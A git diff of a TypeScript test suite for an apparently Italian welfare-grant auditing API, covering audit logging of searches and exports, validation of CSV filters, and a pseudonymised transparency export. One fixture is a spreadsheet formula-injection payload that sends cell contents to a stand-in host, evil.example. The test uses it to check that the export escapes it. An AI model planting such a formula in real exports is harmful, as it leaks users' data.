@@ -3,6 +3,7 @@ import { AuditorDecisionsService } from '../src/modules/auditing/auditor-decisio
 import { Role } from '../src/modules/users/role.js';
 import { bearer, caseVersion, draftAndSubmit } from './support/cases.js';
 import { uniqueFiscalCode } from './support/fiscal-codes.js';
+import { content, newGrant } from './support/measure-fixtures.js';
 import { createTestApp, seedAccount, tokenFor, type TestContext } from './support/test-app.js';
 
 const MILANO = '015146';
@@ -122,7 +123,9 @@ describe('decision search', () => {
 describe('snapshot, pseudonymisation and disclosure', () => {
   it('the full snapshot, pseudonymised by default, and the read of a sealed case is audited', async () => {
     const before = await auditCount('record.read');
+    const caseBefore = await caseReads(cases.A);
     const snap = (await get(`/auditor/decisions/${cases.A}`).expect(200)).body;
+    expect(await caseReads(cases.A)).toBe(caseBefore + 1);
     expect(snap).toMatchObject({
       pseudonymised: true,
       measureCode: 'ORFANI-FEMMINICIDIO',
@@ -148,7 +151,7 @@ describe('snapshot, pseudonymisation and disclosure', () => {
     // Stable: the same person has the same pseudonym in search results.
     const listed = (await get(`/auditor/decisions?decidedBy=${ids.mgrBrescia}`).expect(200)).body.items[0];
     expect(listed.beneficiaryPseudonym).toBe(snap.beneficiary);
-    expect(await auditCount('record.read')).toBe(before + 1);
+    expect(await auditCount('record.read')).toBe(before + 2); // the snapshot, and the search that listed the sealed case
   });
 
   it('a justification unlocks clear data for that auditor only, for a limited time, and is audited', async () => {
@@ -250,6 +253,55 @@ describe('CSV export', () => {
   });
 });
 
+describe('searches and exports that include sealed or health-related decisions are recorded', () => {
+  const listings = async () =>
+    (await ctx.db.query(`SELECT actor_id, change FROM audit_log WHERE action = 'record.read' AND target_type = 'decisions' ORDER BY seq`)) as {
+      actor_id: string;
+      change: Record<string, unknown>;
+    }[];
+
+  it('one entry per search page and per export, with the filter and the counts, not one per row', async () => {
+    const before = (await listings()).length;
+    await get('/auditor/decisions?measureCode=ALER-VIOLENZA&limit=10').expect(200);
+    let entries = await listings();
+    expect(entries).toHaveLength(before + 1);
+    expect(entries.at(-1)).toEqual({
+      actor_id: ids.auditor,
+      change: { via: 'auditor.search', filter: { measureCode: 'ALER-VIOLENZA', limit: 10 }, rows: 2, sealed: 2, healthRelated: 0 },
+    });
+    await get('/auditor/decisions.csv?measureCode=ORFANI-FEMMINICIDIO&status=APPROVED', 'auditor2').expect(200);
+    entries = await listings();
+    expect(entries).toHaveLength(before + 2);
+    expect(entries.at(-1)).toEqual({
+      actor_id: ids.auditor2,
+      change: { via: 'auditor.export', filter: { measureCode: 'ORFANI-FEMMINICIDIO', status: 'APPROVED' }, rows: 1, sealed: 1, healthRelated: 0 },
+    });
+    // Nothing sealed or health-related in the result: nothing to record.
+    await get('/auditor/decisions?measureCode=NIDI-GRATIS-PLUS-2024-25').expect(200);
+    await get('/auditor/decisions.csv?atsCode=999').expect(200);
+    expect(await listings()).toHaveLength(before + 2);
+  });
+});
+
+describe('a CSV export with a bad filter', () => {
+  it('answers 400 problem+json naming the parameter before any byte of CSV', async () => {
+    for (const [query, field] of [
+      ['receivedFrom=2026-02-30', 'receivedFrom'],
+      ['decidedTo=2026-W05-1', 'decidedTo'],
+      ['receivedTo=2026-060', 'receivedTo'],
+      ['measureVersion=99999999999', 'measureVersion'],
+      ['minAmountCents=1.5', 'minAmountCents'],
+      ['maxAmountCents=1e300', 'maxAmountCents'],
+    ] as const) {
+      const res = await get(`/auditor/decisions.csv?${query}`);
+      expect({ query, status: res.status, type: res.headers['content-type'] }).toEqual({ query, status: 400, type: expect.stringMatching(/^application\/problem\+json/) });
+      expect(res.body.code).toBe('VALIDATION_FAILED');
+      expect(res.body.errors.map((e: { field: string }) => e.field)).toContain(field);
+      await get(`/auditor/decisions?${query}`).expect(400);
+    }
+  });
+});
+
 describe('indicators', () => {
   it('per measure and year, computed from the data, with baseline and target', async () => {
     const res = await get('/auditor/indicators').expect(200);
@@ -296,30 +348,72 @@ describe('indicators', () => {
 });
 
 describe('transparency export (D.Lgs. 33/2013 art. 26–27)', () => {
-  it('only beneficiaries over 1,000 EUR in the year, pseudonymised, no names', async () => {
-    // A small grant (800 EUR) to another beneficiary, as a fixture row.
-    const small = uniqueFiscalCode();
+  /** An APPROVED grant as a fixture row, copied from case A onto another measure, beneficiary and amount. */
+  let seq = 900;
+  const grant = async (measureCode: string, beneficiary: string, cents: number) => {
     const [{ generated }] = await ctx.db.query(
       `SELECT is_generated = 'ALWAYS' AS generated FROM information_schema.columns WHERE table_name = 'applications' AND column_name = 'protocol_number'`,
     );
+    seq += 1;
     await ctx.db.query(
       `INSERT INTO applications (measure_id, measure_version_id, owner_id, owner_role, status, data, sealed, beneficiary_fiscal_code,
          protocol_year, protocol_seq, ${generated ? '' : 'protocol_number,'} received_at, received_date, decided_at, decided_by, amount_cents)
-       SELECT measure_id, measure_version_id, owner_id, owner_role, 'APPROVED', '{}', sealed, $2, 2026, 999, ${generated ? '' : `'2026-0000999',`}
-         received_at, received_date, decided_at, decided_by, 80000 FROM applications WHERE id = $1`,
-      [cases.A, small],
+       SELECT m.id, v.id, a.owner_id, a.owner_role, 'APPROVED', '{}', (v.definition->>'sealed')::boolean, $3, 2026, $4, ${generated ? '' : `'2026-' || lpad($4::text, 7, '0'),`}
+         a.received_at, a.received_date, a.decided_at, a.decided_by, $5
+       FROM applications a, measures m JOIN measure_versions v ON v.measure_id = m.id AND v.version = 1
+       WHERE a.id = $1 AND m.code = $2`,
+      [cases.A, measureCode, beneficiary, seq, cents],
     );
+  };
+  const publishable = uniqueFiscalCode();
+  const below = uniqueFiscalCode();
+  const HOSTILE = '=HYPERLINK("https://evil.example/?d="&A1,"Contributo")';
+
+  beforeAll(async () => {
+    // A measure that reveals neither health nor hardship, with a hostile title: published per beneficiary.
+    const definition = { ...newGrant('CONTRIBUTO-TRASPARENZA-2026'), title: { it: HOSTILE, en: 'Transparency test grant' } };
+    await ctx.http().post('/api/v1/admin/measures').set(bearer(tokens.admin)).send(content(definition)).expect(201);
+    await ctx.http().post('/api/v1/admin/measures/CONTRIBUTO-TRASPARENZA-2026/versions/1/publish').set(bearer(tokens.admin)).send({}).expect(200);
+    await grant('CONTRIBUTO-TRASPARENZA-2026', publishable, 120_000); // 1,200 EUR in the year: published
+    await grant('CONTRIBUTO-TRASPARENZA-2026', below, 90_000); // 900 EUR: not published
+    // Two more orphans' grants (a sealed measure): three in the year, published as one aggregate.
+    await grant('ORFANI-FEMMINICIDIO', uniqueFiscalCode(), 80_000);
+    await grant('ORFANI-FEMMINICIDIO', uniqueFiscalCode(), 70_000);
+  });
+
+  it('per beneficiary only for measures that reveal no health or hardship, under a pseudonym of this export only', async () => {
     for (const who of ['auditor', 'admin']) {
       const res = await get('/transparency/grants.csv', who).expect(200);
       const lines = res.text.split('\r\n').filter(Boolean);
-      expect(lines[0]).toBe('beneficiary_pseudonym,measure_code,measure_title,amount_eur,legal_basis,office,decision_date');
-      expect(lines).toHaveLength(2);
-      expect(lines[1]).toMatch(/^psn_[0-9a-f]{20},ORFANI-FEMMINICIDIO,.*,5000\.00,.*,2026-03-12$/);
-      for (const cf of [...Object.values(fiscal), small, 'Test User']) expect(res.text).not.toContain(cf);
+      expect(lines[0]).toBe('section,beneficiary_pseudonym,measure_code,measure_title,year,grants,amount_eur,legal_basis,office,decision_date');
+      const grants = lines.filter((l) => l.startsWith('grant,'));
+      expect(grants).toHaveLength(1);
+      const pseudonym = grants[0].split(',')[1];
+      expect(pseudonym).toMatch(/^pub_[0-9a-f]{20}$/);
+      for (const l of grants) expect(l).toMatch(new RegExp(`^grant,${pseudonym},CONTRIBUTO-TRASPARENZA-2026,.*,2026,1,1200\\.00,DGR XII/9999/2026,Regione Lombardia,2026-03-12$`));
+      // Unlinkable: not the auditor views' pseudonym of the same person, nor its hash.
+      const auditorPseudonym = ctx.app.get(AuditorDecisionsService).pseudonymiser.pseudonym(publishable);
+      expect(pseudonym.slice(4)).not.toBe(auditorPseudonym.slice(4));
+      expect(res.text).not.toContain(auditorPseudonym.slice(4));
+      expect(res.text).not.toMatch(/psn_/);
+      // The hostile title is written as text, not as a formula.
+      expect(grants[0]).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""Contributo"")"`);
+      // Measures revealing health or hardship (sealed ones included): aggregates only, small counts suppressed.
+      expect(lines.filter((l) => l.startsWith('aggregate,'))).toEqual([
+        expect.stringMatching(/^aggregate,,ALER-VIOLENZA,.*,2026,<3,,.*,$/),
+        expect.stringMatching(/^aggregate,,ORFANI-FEMMINICIDIO,.*,2026,3,6500\.00,.*,$/),
+      ]);
+      expect(lines).toHaveLength(4);
+      for (const cf of [...Object.values(fiscal), publishable, below, 'Test User']) expect(res.text).not.toContain(cf);
     }
     await get('/transparency/grants.csv', 'mgrBrescia').expect(403);
   });
 });
+
+async function caseReads(id: string): Promise<number> {
+  const [{ n }] = await ctx.db.query(`SELECT count(*)::int AS n FROM audit_log WHERE action = 'record.read' AND target_type = 'application' AND target_id = $1`, [id]);
+  return n;
+}
 
 async function auditCount(action: string): Promise<number> {
   const [{ n }] = await ctx.db.query(`SELECT count(*)::int AS n FROM audit_log WHERE action = $1`, [action]);
